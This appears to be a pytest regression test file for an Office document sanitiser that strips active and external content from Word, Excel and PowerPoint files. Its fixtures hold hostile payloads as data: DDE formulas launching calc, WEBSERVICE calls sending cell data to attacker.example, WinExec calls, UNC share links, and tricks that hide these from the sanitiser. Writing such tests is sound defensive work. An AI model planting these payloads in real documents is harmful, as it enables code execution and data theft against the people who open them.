    """An external mail-merge data source that no <w:mailMerge> uses stayed, under
    dynamic_data_exchange = disallow too."""
    source = ("rIdM", _REL + "mailMergeSource", "file:///\\\\attacker.example\\s\\d.odc", True)
    empty = (
        b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        b"</Relationships>"
    )
    base = build_docx(False)
    rels = "word/_rels/settings.xml.rels"
    present = rels in zipfile.ZipFile(io.BytesIO(base)).namelist()
    change = add_rels(source) if present else add_rels(source)(empty)
    path = _write(tmp_path, "merge.docx", rezip(base, {rels: change}))
    _assert_link_goes(tmp_path, path, "dynamic_data_exchange")


def test_references_under_deep_nesting_are_cleaned_up_quickly(tmp_path: Path) -> None:
    """20,000 elements referring to a removed external hyperlink, under 240 nested
    elements, took 15 s (each walked up to the root, twice; lxml counts a parent's
    children for len()); 100,000 in 881 KB took 84 s, past the job timeout."""
    import time

    deep = '<x:a xmlns:x="urn:x">' * 240
    refs = '<x:b r:id="rIdE"/>' * 60_000
    paragraph = f"<w:r>{deep}{refs}{'</x:a>' * 240}</w:r>"
    data = rezip(
        _docx_with(paragraph),
        {
            "word/_rels/document.xml.rels": add_rels(
                ("rIdE", _REL + "hyperlink", "https://example.com/", True)
            ),
        },
    )
    path = _write(tmp_path, "deep.docx", data)
    started = time.perf_counter()
    limits = {"max_file_size": 50 * 2**20, "max_ratio": 10_000}  # (repetitive XML)
    result, dest = disarm(path, tmp_path, switches("sanitise"), limits)
    took = time.perf_counter() - started
    assert result.outcome == "rebuilt", result
    assert b'r:id="rIdE"' not in member(dest, "word/document.xml")
    assert took < 15, took  # (about 1 s; it was quadratic: minutes)


@pytest.mark.parametrize(
    ("formula", "switch"),
    [
        ("SUM('a\"b'!A1,cmd|' /c calc\"'!A0)", "dynamic_data_exchange"),
        ('\'a"b\'!A1&amp;_xlfn.WEBSERVICE("http://evil.example/?"&amp;A1)', "external_hyperlinks"),
        ('\'a"b\'!A1&amp;CALL("Kernel32","WinExec","JCJ","calc",0)', "macros"),
        ("SUM('a\"b!A1)", "dynamic_data_exchange"),  # (a quote that closes nothing)
    ],
    ids=["dde", "webservice", "call", "unclosed"],
)
def test_a_quote_in_a_sheet_name_hides_no_call(tmp_path: Path, formula: str, switch: str) -> None:
    """A '"' in a quoted sheet name opened a string for the formula check, which hid
    the DDE reference, WEBSERVICE or CALL after it: delivered unmodified (LibreOffice
    reads the WEBSERVICE call and the sheet reference)."""
    path = _write(tmp_path, "in.xlsx", _xlsx_formula(formula))
    assert b"<f>" in zipfile.ZipFile(path).read("xl/worksheets/sheet1.xml")
    result, dest = disarm(path, tmp_path, switches("sanitise"))
    assert result.outcome == "rebuilt", result
    assert b"<f>" not in zipfile.ZipFile(dest).read("xl/worksheets/sheet1.xml")
    assert any(a.switch == switch for a in result.actions), result.actions


def test_formulas_with_quoted_sheet_names_and_strings_are_kept(tmp_path: Path) -> None:
    formula = "SUM('it''s \"x\"'!A1)&amp;\"a\"\"b|c\"&amp;'x|y'!B2"
    path = _write(tmp_path, "in.xlsx", _xlsx_formula(formula))
    result, dest = disarm(path, tmp_path, switches("sanitise"))
    assert result.outcome in ("rebuilt", "unmodified"), result
    out = dest if result.outcome == "rebuilt" else path
    assert b"<f>" in zipfile.ZipFile(out).read("xl/worksheets/sheet1.xml")
    assert not any(a.switch == "dynamic_data_exchange" for a in result.actions)


def _xlsx_with_table_and_chart() -> bytes:
    import openpyxl
    from openpyxl.chart import BarChart, Reference
    from openpyxl.worksheet.table import Table

    wb = openpyxl.Workbook()
    ws = wb.active
    ws.title = "Data"
    for row in (("name", "value"), ("a", 1), ("b", 2)):
        ws.append(row)
    ws.add_table(Table(displayName="T", ref="A1:B3"))
    chart = BarChart()
    chart.add_data(Reference(ws, min_col=2, min_row=1, max_row=3), titles_from_data=True)
    ws.add_chart(chart, "D2")
    buf = io.BytesIO()
    wb.save(buf)
    return buf.getvalue()


_DDE_FORMULA = "cmd|&apos; /c calc&apos;!A0"


@pytest.mark.parametrize(
    "where", ["table-column", "chart-series", "chart-extension", "web-publishing"]
)
def test_formulas_outside_cells_are_judged(tmp_path: Path, where: str) -> None:
    """A table column's formula, a chart series reference, an Office 2013 chart
    extension's reference (data labels from a range: c15:f) and a sheet's web
    publishing destination were never read: DDE, another workbook and a share to
    write to passed."""
    base = _xlsx_with_table_and_chart()
    parts = zipfile.ZipFile(io.BytesIO(base)).namelist()
    table = next(n for n in parts if n.startswith("xl/tables/"))
    chart = next(n for n in parts if n.startswith("xl/charts/"))
    if where == "table-column":
        change = {
            table: lambda x: x.replace(
                b'name="value"/>',
                f'name="value"><calculatedColumnFormula>{_DDE_FORMULA}'
                f"</calculatedColumnFormula></tableColumn>".encode(),
            )
        }
        part, gone = table, b"calculatedColumnFormula"
    elif where == "chart-series":
        dde = _DDE_FORMULA.encode()
        change = {chart: lambda x: re.sub(rb"(<(?:c:)?f>)[^<]*<", rb"\1" + dde + b"<", x)}
        part, gone = chart, b"calc"
    elif where == "chart-extension":
        labels = (
            b'<extLst><ext uri="{02D57815-91ED-43cb-92C2-25804820EDAC}" '
            b'xmlns:c15="http://schemas.microsoft.com/office/drawing/2012/chart">'
            b"<c15:datalabelsRange><c15:f>'http://evil.example/[book.xlsx]Sheet1'!$A$1:$A$2"
            b'</c15:f><c15:dlblRangeCache><ptCount val="2"/></c15:dlblRangeCache>'
            b"</c15:datalabelsRange></ext></extLst></ser>"
        )
        change = {chart: lambda x: x.replace(b"</ser>", labels, 1)}
        part, gone = chart, b"evil.example"
    else:
        item = (
            '<webPublishItems count="1"><webPublishItem id="1" divId="x" sourceType="sheet" '
            'destinationFile="\\\\evil\\share\\leak.htm" autoRepublish="1"/></webPublishItems>'
        )
        change = {
            "xl/worksheets/sheet1.xml": lambda x: x.replace(
                b"<tableParts", item.encode() + b"<tableParts", 1
            )
        }
        part, gone = "xl/worksheets/sheet1.xml", b"destinationFile"
    data = rezip(base, change)
    assert gone in zipfile.ZipFile(io.BytesIO(data)).read(part)
    path = _write(tmp_path, "book.xlsx", data)
    result, dest = disarm(path, tmp_path, switches("sanitise"))
    assert result.outcome == "rebuilt", result
    assert gone not in member(dest, part)
    assert_consistent(dest)
    import openpyxl

    openpyxl.load_workbook(dest)  # (still a workbook)
    if where == "chart-series":
        # the series keeps the values it cached, as literals
        assert b"numLit" in member(dest, part) and b"numRef" not in member(dest, part)
    if where == "chart-extension":
        # the extension went whole, the series and its own references stay
        assert b"extLst" not in member(dest, part) and b"numRef" in member(dest, part)


def test_defined_names_are_judged_in_linear_time(tmp_path: Path) -> None:
    """80,000 defined names calling WEBSERVICE took 25.7 s to remove (lxml counted
    the names left after each removal)."""
    import time

    import openpyxl

    wb = openpyxl.Workbook()
    buf = io.BytesIO()
    wb.save(buf)
    names = "".join(
        f'<definedName name="n{i}">_xlfn.WEBSERVICE("http://x.example/{i}")</definedName>'
        for i in range(80_000)
    )
    data = rezip(
        buf.getvalue(),
        {
            "xl/workbook.xml": lambda x: re.sub(
                rb"(</sheets>)", rb"\1<definedNames>" + names.encode() + b"</definedNames>", x
            )
        },
    )
    path = _write(tmp_path, "names.xlsx", data)
    started = time.perf_counter()
    limits = {"max_file_size": 50 * 2**20, "max_ratio": 10_000}
    result, dest = disarm(path, tmp_path, switches("sanitise"), limits)
    took = time.perf_counter() - started
    assert result.outcome == "rebuilt", result
    assert b"WEBSERVICE" not in member(dest, "xl/workbook.xml")
    assert took < 12, took  # (about 1 s; 25.7 s before)


_SUPERSCRIPT_TAB = 'activeTab="\u00b2"'.encode()


def test_a_superscript_digit_in_a_sheet_index_is_no_number(tmp_path: Path) -> None:
    """str.isdigit() takes "²" and int() refuses it: the engine failed."""
    path = _write(tmp_path, "in.xlsm", build_xlsx(True))
    data = rezip(
        path.read_bytes(),
        {"xl/workbook.xml": lambda x: x.replace(b'activeTab="0"', _SUPERSCRIPT_TAB, 1)},
    )
    path = _write(tmp_path, "in.xlsm", data)
    result, _ = disarm(path, tmp_path, switches("sanitise"))
    assert result.outcome == "rebuilt", result


@pytest.mark.parametrize(
    ("action", "target"),
    [
        (" ppaction://program", "calc.exe"),
        ("ppaction://hlinkfile", "..\\..\\Windows\\System32\\calc.exe"),
        ("ppaction://hlinkpres?slideindex=1", "../other.pptx"),
    ],
    ids=["program-with-a-space", "file", "presentation"],
)
def test_click_actions_opening_other_files_are_external(
    tmp_path: Path, action: str, target: str
) -> None:
    """With links within the document allowed, a run-program action written with a
    leading space, and actions opening another file by an internal-looking target,
    were kept as links within the document."""
    import pptx
    from pptx.oxml import parse_xml
    from pptx.util import Inches

    from tests.plugins.test_office import R

    prs = pptx.Presentation()
    slide = prs.slides.add_slide(prs.slide_layouts[5])
    box = slide.shapes.add_textbox(Inches(1), Inches(1), Inches(3), Inches(1))
    box.text_frame.text = "open"
    rid = slide.part.relate_to(target, R + "hyperlink", is_external=True)
    box._element.nvSpPr.cNvPr.append(
        parse_xml(
            '<a:hlinkClick xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main" '
            f'xmlns:r="{R[:-1]}" r:id="{rid}" action="{action}"/>'
        )
    )
    # (an internal target, as written: no target mode)
    internal = {
        "ppt/slides/_rels/slide1.xml.rels": lambda x: x.replace(b' TargetMode="External"', b"")
    }
    path = _write(tmp_path, "in.pptx", rezip(_save(prs), internal))
    assert b"External" not in zipfile.ZipFile(path).read("ppt/slides/_rels/slide1.xml.rels")
    result, dest = disarm(path, tmp_path, switches("sanitise", internal_hyperlinks="allow"))
    assert result.outcome == "rebuilt", result
    assert b"hlinkClick" not in zipfile.ZipFile(dest).read("ppt/slides/slide1.xml")
    assert any(a.switch == "external_hyperlinks" for a in result.actions), result.actions


@pytest.mark.parametrize(
    "formula",
    [
        'SUM(Table1[a"b])+LEN(_xlfn.WEBSERVICE(E1))+SUM(Table1[a"b])',
        "SUM(Table1['#Data])+LEN(_xlfn.WEBSERVICE(E1))+SUM(Table1['#Data])",
        "SUM(Table1[a\"b])+cmd|'/c calc'!A1+SUM(Table1[a\"b])",
    ],
    ids=["quote-in-column", "escaped-hash", "dde"],
)
def test_a_table_column_name_hides_no_call(tmp_path: Path, formula: str) -> None:
    """In a structured reference a '"' is a character and "'" escapes the next one:
    two of them read as a string hid WEBSERVICE or DDE between them."""
    path = _write(tmp_path, "in.xlsx", _xlsx_formula(formula.replace("&", "&amp;")))
    result, dest = disarm(path, tmp_path, switches("sanitise"))
    assert result.outcome == "rebuilt", result
    assert b"<f>" not in zipfile.ZipFile(dest).read("xl/worksheets/sheet1.xml")


@pytest.mark.parametrize(
    "formula",
    ["SUM(Table1['# Units])", 'SUM(Table1[Size (")])', "SUM(Table1[[#This Row],[Price '[USD']]])"],
)
def test_table_column_names_are_no_unclosed_quotes(tmp_path: Path, formula: str) -> None:
    path = _write(tmp_path, "in.xlsx", _xlsx_formula(formula))
    result, dest = disarm(path, tmp_path, switches("sanitise"))
    out = dest if result.outcome == "rebuilt" else path
    assert b"<f>" in zipfile.ZipFile(out).read("xl/worksheets/sheet1.xml"), result


def test_removing_many_marks_between_text_is_linear(tmp_path: Path) -> None:
    """60,000 comment marks in a paragraph, each followed by text (character data
    Word ignores outside w:t): each removal appended it to the same string again
    (23 s). Such text is kept up to a bound."""
    import time

    marks = '<w:commentRangeStart w:id="1"/>abcdefgh' * 60_000
    path = _write(tmp_path, "marks.docx", _docx_with(f"<w:r><w:t>x</w:t></w:r>{marks}"))
    started = time.perf_counter()
    limits = {"max_file_size": 50 * 2**20, "max_ratio": 10_000}
    result, dest = disarm(path, tmp_path, switches("sanitise"), limits)
    took = time.perf_counter() - started
    assert result.outcome == "rebuilt", result
    assert b"commentRangeStart" not in member(dest, "word/document.xml")
    assert took < 10, took  # (about 0.3 s)


def test_field_characters_deep_in_content_controls_are_read_in_linear_time(
    tmp_path: Path,
) -> None:
    """60,000 field characters under 120 nested content controls: each one walked up
    to the root to find other markup around it (10 s from 7 KB gzip-encoded)."""
    import time

    chars = '<w:r><w:fldChar w:fldCharType="begin"/><w:fldChar w:fldCharType="end"/></w:r>'
    deep = "<w:sdt><w:sdtContent>" * 120
    body = deep + "<w:p>" + chars * 40_000 + "</w:p>" + "</w:sdtContent></w:sdt>" * 120

    def document(xml: bytes) -> bytes:
        return xml.replace(b"<w:body>", b"<w:body>" + body.encode(), 1)

    path = _write(
        tmp_path,
        "deep.docx",
        rezip(_docx_with("<w:r><w:t>x</w:t></w:r>"), {"word/document.xml": document}),
    )
    started = time.perf_counter()
    limits = {"max_file_size": 50 * 2**20, "max_ratio": 10_000}
    result, _ = disarm(path, tmp_path, switches("sanitise"), limits)
    took = time.perf_counter() - started
    assert result.outcome in ("rebuilt", "unmodified"), result
    assert took < 10, took  # (about 0.6 s; 20 s before)


def test_an_imported_document_under_another_relationship_type_goes(tmp_path: Path) -> None:
    """A w:altChunk whose relationship said "image" kept its whole imported docx
    (LibreOffice rendered it, links and all): Word imports what the element names."""
    chunk = build_docx(False)
    data = rezip(
        _docx_with('<w:altChunk r:id="rIdA"/>'),
        {
            "word/afchunk.docx": chunk,
            "word/_rels/document.xml.rels": add_rels(
                ("rIdA", _REL + "image", "afchunk.docx", False)
            ),
        },
    )
    path = _write(tmp_path, "chunk.docx", data)
    result, dest = disarm(path, tmp_path, switches("sanitise"))
    assert result.outcome == "rebuilt", result
    assert "word/afchunk.docx" not in names(dest)
    assert any("altChunk" in a.detail for a in result.actions), result.actions
    assert_consistent(dest)


def test_form_field_entry_and_exit_macros_go(tmp_path: Path) -> None:
    """Word runs the macro or command a legacy form field names when it is entered
    or left (in the document, a template or an add-in): they were kept."""
    field = (
        '<w:r><w:fldChar w:fldCharType="begin"><w:ffData><w:name w:val="Text1"/>'
        '<w:enabled/><w:entryMacro w:val="FileOpen"/><w:exitMacro w:val="Project.Module1.Evil"/>'
        "<w:textInput/></w:ffData></w:fldChar></w:r>"
        '<w:r><w:instrText xml:space="preserve"> FORMTEXT </w:instrText></w:r>'
        '<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>x</w:t></w:r>'
        '<w:r><w:fldChar w:fldCharType="end"/></w:r>'
    )
    path = _write(tmp_path, "form.docx", _docx_with(field))
    result, dest = disarm(path, tmp_path, switches("sanitise"))
    assert result.outcome == "rebuilt", result
    out = member(dest, "word/document.xml")
    assert b"entryMacro" not in out and b"exitMacro" not in out and b"FORMTEXT" in out
    result, _ = disarm(path, tmp_path, switches("sanitise", macros="disallow"))
    assert result.outcome == "blocked", result


def _pptx_with(
    shape: str, rels: list[tuple[str, str, str, bool]], parts: dict[str, bytes]
) -> bytes:
    import pptx

    prs = pptx.Presentation()
    prs.slides.add_slide(prs.slide_layouts[5]).shapes.title.text = "hello"
    buf = io.BytesIO()
    prs.save(buf)
    return rezip(
        buf.getvalue(),
        {
            "ppt/slides/slide1.xml": lambda x: x.replace(
                b"</p:spTree>", shape.encode() + b"</p:spTree>"
            ),
            "ppt/slides/_rels/slide1.xml.rels": add_rels(*rels),
            **parts,
        },
    )


_DML = 'xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main"'
_PML = (
    'xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main" '
    'xmlns:p="http://schemas.openxmlformats.org/presentationml/2006/main" '
    'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"'
)
_VIDEO = (
    f'<p:pic {_PML}><p:nvPicPr><p:cNvPr id="10" name="v"/><p:cNvPicPr/><p:nvPr>'
    '<a:videoFile r:link="rIdV"/><p:extLst><p:ext uri="{DAA4B4D4-6D71-4841-9C94-3DE7FCFB9230}">'
    '<p14:media xmlns:p14="http://schemas.microsoft.com/office/powerpoint/2010/main" '
    'r:embed="rIdM"/></p:ext></p:extLst></p:nvPr></p:nvPicPr><p:blipFill><a:blip/>'
    "<a:stretch><a:fillRect/></a:stretch></p:blipFill><p:spPr/></p:pic>"
)
_AX = (
    b'<ax:ocx xmlns:ax="http://schemas.microsoft.com/office/2006/activeX" '
    b'ax:classid="{D7053240-CE69-11CD-A777-00DD01143C57}" ax:persistence="persistPropertyBag">'
    b'<ax:ocxPr ax:name="Caption" ax:value="Run"/></ax:ocx>'
)
_CONTROL = (
    '<w:r><w:object><v:shape id="_x0000_i1026" style="width:72pt;height:24pt"/>'
    '<w:control r:id="rIdAX" w:name="CommandButton1" w:shapeid="_x0000_i1026"/></w:object></w:r>'
)


@pytest.mark.parametrize("case", ["activex", "font", "video", "package"])
def test_parts_an_element_places_go_whatever_their_relationship_type(
    tmp_path: Path, case: str
) -> None:
    """Readers follow the r:id (r:embed, r:link) of the element that uses a part, not
    the relationship's type: an ActiveX control, an embedded font and a video under
    a "customXml" or "image" relationship with a plain content type were kept, and
    LibreOffice imported the control, loaded the font and played the video. A chart
    workbook (a zip) under a decoy type was kept too."""
    decoy = _REL + "customXml"
    if case == "activex":
        data = rezip(
            _docx_with(_CONTROL),
            {
                "word/ax/item9.xml": _AX,
                "word/_rels/document.xml.rels": add_rels(("rIdAX", decoy, "ax/item9.xml", False)),
                "[Content_Types].xml": content_types({"/word/ax/item9.xml": "application/xml"}),
            },
        )
        part, switch, element = "word/ax/item9.xml", "macros", b"w:control"
    elif case == "font":
        face = (
            '<w:font w:name="Gicap Sans"><w:embedRegular r:id="rIdF" '
            'w:fontKey="{4C7E3D21-9A8B-4F3E-8D2A-1B2C3D4E5F60}"/></w:font>'
        )
        data = rezip(
            _docx_with("<w:r><w:t>x</w:t></w:r>"),
            {
                "word/fontTable.xml": lambda x: x.replace(
                    b"</w:fonts>", face.encode() + b"</w:fonts>"
                ),
                "word/_rels/fontTable.xml.rels": add_rels(
                    ("rIdF", _REL + "image", "fonts/font1.odttf", False)
                )(
                    b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/'
                    b'relationships"></Relationships>'
                ),
                "word/fonts/font1.odttf": b"\x00\x01\x00\x00" + bytes(200),
            },
        )
        part, switch, element = "word/fonts/font1.odttf", "embedded_files", b"embedRegular"
    elif case == "video":
        data = _pptx_with(
            _VIDEO,
            [
                ("rIdV", _REL + "image", "../media/v.mp4", False),
                ("rIdM", _REL + "image", "../media/v.mp4", False),
            ],
            {"ppt/media/v.mp4": b"\x00\x00\x00\x18ftypmp42" + bytes(100)},
        )
        part, switch, element = "ppt/media/v.mp4", "embedded_files", b"videoFile"
    else:
        data = rezip(
            build_docx(False),
            {
                "word/data.xlsx": build_xlsx(False),
                "word/_rels/document.xml.rels": add_rels(("rIdX", decoy, "data.xlsx", False)),
            },
        )
        part, switch, element = "word/data.xlsx", "embedded_files", b""
    path = _write(tmp_path, f"placed.{'pptx' if case == 'video' else 'docx'}", data)
    assert part in names(path)
    result, dest = disarm(path, tmp_path, switches("sanitise"))
    assert result.outcome == "rebuilt", result
    assert part not in names(dest)
    if element:
        assert all(element not in member(dest, n) for n in names(dest) if n.endswith(".xml"))
    assert_consistent(dest)
    result, _ = disarm(path, tmp_path, switches("sanitise", **{switch: "disallow"}))
    assert result.outcome == "blocked", result


def test_web_content_outside_relationships_goes(tmp_path: Path) -> None:
    """Word's online video (an iframe in webVideoPr's embeddedHtml, shown in a browser
    control), a VML image source on a network share and a document information panel
    form (customXsn, loaded by Office 2007-2013 when the document opened) were kept."""
    video = (
        '<wp15:webVideoPr xmlns:wp15="http://schemas.microsoft.com/office/word/2012/'
        'wordprocessingDrawing" embeddedHtml="&lt;iframe src=&quot;http://attacker.example/'
        'v.html&quot;&gt;&lt;/iframe&gt;" h="270" w="480"/>'
    )
    picture = (
        '<w:r><w:pict><v:shape id="s1" style="width:10pt;height:10pt"><v:imagedata '
        'o:href="\\\\attacker.example\\share\\a.png" src="file://attacker.example/b.png"/>'
        f"</v:shape></w:pict></w:r><w:r><w:drawing><a:blip {_DML}><a:extLst>"
        '<a:ext uri="{C809E66F-F1BF-436E-b5F7-EEA9579F0CBA}">'
        f"{video}</a:ext></a:extLst></a:blip></w:drawing></w:r>"
    )
    xsn = (
        b'<customXsn xmlns="http://schemas.microsoft.com/office/2006/metadata/customXsn">'
        b"<xsnLocation>\\\\attacker.example\\share\\dip.xsn</xsnLocation><cached>False</cached>"
        b"<openByDefault>True</openByDefault><xsnScope/></customXsn>"
    )
    data = rezip(
        _docx_with(picture),
        {
            "customXml/item9.xml": xsn,
            "word/_rels/document.xml.rels": add_rels(
                ("rIdC", _REL + "customXml", "../customXml/item9.xml", False)
            ),
        },
    )
    path = _write(tmp_path, "web.docx", data)
    result, dest = disarm(path, tmp_path, switches("sanitise"))
    assert result.outcome == "rebuilt", result
    for name in names(dest):
        assert b"attacker.example" not in member(dest, name), name
    assert b"a:blip" in member(dest, "word/document.xml")
    assert_consistent(dest)
    (found,) = [a.detail for a in result.actions if a.switch == "external_hyperlinks"]
    assert set(found.split(", ")) == {
        "online video",
        "linked image (VML) ×2",
        "document information panel form",
    }
    result, _ = disarm(path, tmp_path, switches("sanitise", external_hyperlinks="disallow"))
    assert result.outcome == "blocked", result


def test_a_relationships_part_named_in_another_case_is_the_parts(tmp_path: Path) -> None:
    """Part names compare without case: word/_rels/Document.xml.rels holds the
    relationships of word/document.xml. Read as no part's, every part it referred to
    was dropped as unreferenced (styles, settings, images)."""
    base = build_docx(False)
    rels = zipfile.ZipFile(io.BytesIO(base)).read("word/_rels/document.xml.rels")
    data = rezip(base, {"word/_rels/document.xml.rels": None, "word/_rels/Document.xml.rels": rels})
    path = _write(tmp_path, "case.docx", data)
    result, dest = disarm(path, tmp_path, switches("sanitise"))
    assert result.outcome in ("rebuilt", "unmodified"), result
    assert not any("unreferenced" in a.detail for a in result.actions), result.actions
    if result.outcome == "rebuilt":
        assert "word/styles.xml" in names(dest)
    twice = rezip(base, {"word/_rels/Document.xml.rels": rels})
    result, _ = disarm(_write(tmp_path, "twice.docx", twice), tmp_path, switches("sanitise"))
    assert result.outcome == "unprocessable" and "duplicate" in (result.reason or "")


def test_a_percent_escaped_network_path_is_external(tmp_path: Path) -> None:
    """A subdocument target %5C%5Chost%5Cshare%5Cx.docx with no TargetMode resolved to
    no part and was kept as internal: unescaped, it is a network path."""
    target = "%5C%5Cattacker.example%5Cshare%5Cx.docx"
    data = rezip(
        _docx_with('<w:subDoc r:id="rIdS"/>'),
        {"word/_rels/document.xml.rels": add_rels(("rIdS", _REL + "subDocument", target, False))},
    )
    _assert_link_goes(tmp_path, _write(tmp_path, "sub.docx", data), "external_hyperlinks")


def test_a_web_service_call_with_its_xlws_prefix_goes(tmp_path: Path) -> None:
    """Excel writes WEBSERVICE as _xlws.WEBSERVICE in a cell: the prefix hid it."""
    path = _write(
        tmp_path, "ws.xlsx", _xlsx_formula('_xlws.WEBSERVICE("http://attacker.example/")')
    )
    result, dest = disarm(path, tmp_path, switches("sanitise"))
    assert result.outcome == "rebuilt", result
    assert all(b"attacker.example" not in member(dest, n) for n in names(dest))


_X14 = (
    'xmlns:x14="http://schemas.microsoft.com/office/spreadsheetml/2009/9/main" '
    'xmlns:xm="http://schemas.microsoft.com/office/excel/2006/main"'
)
_CALL = 'WEBSERVICE("http://attacker.example/?"&amp;A1)'
_CALL_IN_ATTRIBUTE = _CALL.replace('"', "&quot;")


@pytest.mark.parametrize(
    ("rules", "kept"),
    [
        (
            f'<conditionalFormatting sqref="A1"><cfRule type="expression" priority="1">'
            f"<formula>{_CALL}</formula></cfRule></conditionalFormatting>",
            b"",
        ),
        (
            '<dataValidations count="2"><dataValidation type="list" sqref="A1">'
            f"<formula1>{_CALL}</formula1></dataValidation>"
            '<dataValidation type="whole" sqref="B1"><formula1>1</formula1>'
            "<formula2>9</formula2></dataValidation></dataValidations>",
            b'<dataValidations count="1">',
        ),
        (
            f'<extLst><ext uri="{{78C0D931-6437-407d-A8EE-F0AAD7539E65}}" {_X14}>'
            '<x14:conditionalFormattings><x14:conditionalFormatting><x14:cfRule type="expression" '
            f'priority="2" id="{{00000000-0000-0000-0000-000000000001}}"><xm:f>{_CALL}</xm:f>'
            "</x14:cfRule><xm:sqref>A1</xm:sqref></x14:conditionalFormatting>"
            "</x14:conditionalFormattings></ext></extLst>",
            b"",
        ),
        # a threshold of a colour scale, a data bar or an icon set (LibreOffice fetched
        # the URL as it drew the sheet)
        (
            '<conditionalFormatting sqref="A1:A3"><cfRule type="colorScale" priority="1">'
            f'<colorScale><cfvo type="formula" val="LEN({_CALL_IN_ATTRIBUTE})"/><cfvo type="max"/>'
            '<color rgb="FFF8696B"/><color rgb="FF63BE7B"/></colorScale></cfRule>'
            "</conditionalFormatting>",
            b"",
        ),
        (
            '<conditionalFormatting sqref="A1:A3"><cfRule type="dataBar" priority="1">'
            f'<dataBar><cfvo type="min"/><cfvo type="num" val="LEN({_CALL_IN_ATTRIBUTE})"/>'
            '<color rgb="FF638EC6"/></dataBar></cfRule></conditionalFormatting>',
            b"",
        ),
        (
            '<conditionalFormatting sqref="A1:A3"><cfRule type="iconSet" priority="1">'
            '<iconSet><cfvo type="percent" val="0"/>'
            f'<cfvo type="formula" val="LEN({_CALL_IN_ATTRIBUTE})"/><cfvo type="percent" val="67"/>'
            "</iconSet></cfRule></conditionalFormatting>",
            b"",
        ),
        (
            f'<extLst><ext uri="{{78C0D931-6437-407d-A8EE-F0AAD7539E65}}" {_X14}>'
            '<x14:conditionalFormattings><x14:conditionalFormatting><x14:cfRule type="dataBar" '
            'id="{00000000-0000-0000-0000-000000000002}"><x14:dataBar>'
            f'<x14:cfvo type="formula"><xm:f>LEN({_CALL})</xm:f></x14:cfvo>'
            '<x14:cfvo type="max"/></x14:dataBar></x14:cfRule><xm:sqref>A1</xm:sqref>'
            "</x14:conditionalFormatting></x14:conditionalFormattings></ext></extLst>",
            b"",
        ),
    ],
    ids=[
        "conditional-format",
        "data-validation",
        "x14-conditional-format",
        "colour-scale-threshold",
        "data-bar-threshold",
        "icon-set-threshold",
        "x14-data-bar-threshold",
    ],
)
def test_formulas_of_rules_are_judged(tmp_path: Path, rules: str, kept: bytes) -> None:
    """A WEBSERVICE call in a conditional format's or a data validation's formula
    (Excel evaluates them to draw the sheet and to check an entry) was kept."""
    base = _xlsx_formula("1+1")

    def sheet(xml: bytes) -> bytes:
        anchor = b"<pageMargins" if b"<pageMargins" in xml else b"</worksheet>"
        return xml.replace(anchor, rules.encode() + anchor, 1)

    path = _write(tmp_path, "rules.xlsx", rezip(base, {"xl/worksheets/sheet1.xml": sheet}))
    result, dest = disarm(path, tmp_path, switches("sanitise"))
    assert result.outcome == "rebuilt", result
    out = member(dest, "xl/worksheets/sheet1.xml")
    assert b"attacker.example" not in out and kept in out
    assert b"cfRule" not in out and b"conditionalFormatting" not in out
    assert_consistent(dest)
    import openpyxl

    openpyxl.load_workbook(dest)  # (still a workbook a reader opens)


@pytest.mark.parametrize(
    ("formula", "kept"),
    [
        ("INDIRECT(\"'http://127.0.0.1:9/x.xlsx'#$Sheet1.A1\")", False),
        ('INDIRECT("\'ht"&amp;"tp://127.0.0.1:9/x.xlsx\'#$Sheet1.A1")', False),
        ("ISREF(_xlfn.INDIRECT(A1))", False),  # (A1's text may name a document)
        ('INDIRECT("Sheet1!A1")', True),
        ('SUM(INDIRECT("\'My Sheet\'!B2:C3"),INDIRECT("R[1]C[2]",FALSE))', True),
        ("'INDIRECT(\"A1\")'!B1+INDIRECT(C1)", False),  # (a sheet name is no call)
    ],
)
def test_indirect_reading_a_document_name_goes(tmp_path: Path, formula: str, kept: bool) -> None:
    """INDIRECT reads a reference from text: LibreOffice loaded the document a URL in
    it names ('http://host/x.xlsx'#$Sheet1.A1) as it opened the file, cached value or
    not, and the file was delivered unmodified. One reading a literal reference within
    the workbook is kept; any other is replaced by its value."""
    path = _write(tmp_path, "in.xlsx", _xlsx_formula(formula))
    result, dest = disarm(path, tmp_path, switches("sanitise"))
    out = dest if result.outcome == "rebuilt" else path
    sheet = zipfile.ZipFile(out).read("xl/worksheets/sheet1.xml")
    found = [(a.switch, a.detail) for a in result.actions]
    if kept:
        assert b"<f>" in sheet and ("external_hyperlinks", "INDIRECT formula") not in found
        return
    assert result.outcome == "rebuilt", result
    assert b"<f>" not in sheet and b"<v>0</v>" in sheet  # (the cached value stays)
    assert ("external_hyperlinks", "INDIRECT formula") in found


@pytest.mark.parametrize(
    "formula",
    [
        'WEB<!-- -->SERVICE("http://127.0.0.1:9/x")',
        "INDI<?x y?>RECT(\"'http://127.0.0.1:9/x.xlsx'#$Sheet1.A1\")",
        "cmd<!-- -->|' /c calc'!A1",
    ],
)
def test_a_comment_inside_a_formula_hides_nothing(tmp_path: Path, formula: str) -> None:
    """A comment or processing instruction inside a formula: the check read the text
    before it, LibreOffice reads the text around it as one (and fetched the URL)."""
    path = _write(tmp_path, "in.xlsx", _xlsx_formula(formula))
    result, dest = disarm(path, tmp_path, switches("sanitise"))
    assert result.outcome == "rebuilt", result
    sheet = zipfile.ZipFile(dest).read("xl/worksheets/sheet1.xml")
    assert b"<f>" not in sheet and b"<!--" not in sheet and b"<?x y" not in sheet


def test_a_comment_inside_a_field_keyword_hides_nothing(tmp_path: Path) -> None:
    """``DD<!-- -->EAUTO`` in an instruction is DDEAUTO to a reader of the text around
    the comment; the field walk read "DD"."""
    split = DDE.replace("DDEAUTO", "DD<!-- -->EAUTO")
    paragraph = f'{BEGIN}<w:r><w:instrText xml:space="preserve">{split}</w:instrText></w:r>'
    data = rezip(
        _docx_with("<w:r><w:t>marker</w:t></w:r>"),
        {
            "word/document.xml": lambda x: x.replace(
                b"<w:r><w:t>marker</w:t></w:r>", (paragraph + SEP + END).encode()
            )
        },
    )
    path = _write(tmp_path, "in.docx", data)
    assert b"DD<!-- -->EAUTO" in zipfile.ZipFile(path).read("word/document.xml")
    result, dest = disarm(path, tmp_path, switches("sanitise"))
    assert result.outcome == "rebuilt", result
